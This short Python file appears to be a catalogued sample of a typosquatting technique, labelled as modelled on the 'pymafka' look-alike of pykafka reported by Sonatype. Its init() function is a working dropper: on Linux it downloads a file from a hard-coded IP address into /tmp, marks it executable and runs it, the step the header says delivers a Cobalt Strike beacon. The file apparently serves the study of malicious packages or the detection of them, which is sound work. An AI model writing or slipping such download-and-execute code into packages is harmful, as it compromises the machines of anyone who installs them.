# technique: look-alike of pykafka that drops a Cobalt Strike beacon
# class: typosquat
# source: Sonatype, "pymafka" (May 2022): typosquat of pykafka dropping Cobalt Strike
# declares: network, subprocess, fs-write
# requires: pymafka
import os
import platform
import subprocess
import urllib.request


def init():
    if platform.system() == "Linux":
        p = "/tmp/zyppe"
        urllib.request.urlretrieve("http://39.107.154.72/env", p)
        os.chmod(p, 0o777)
        subprocess.Popen([p])
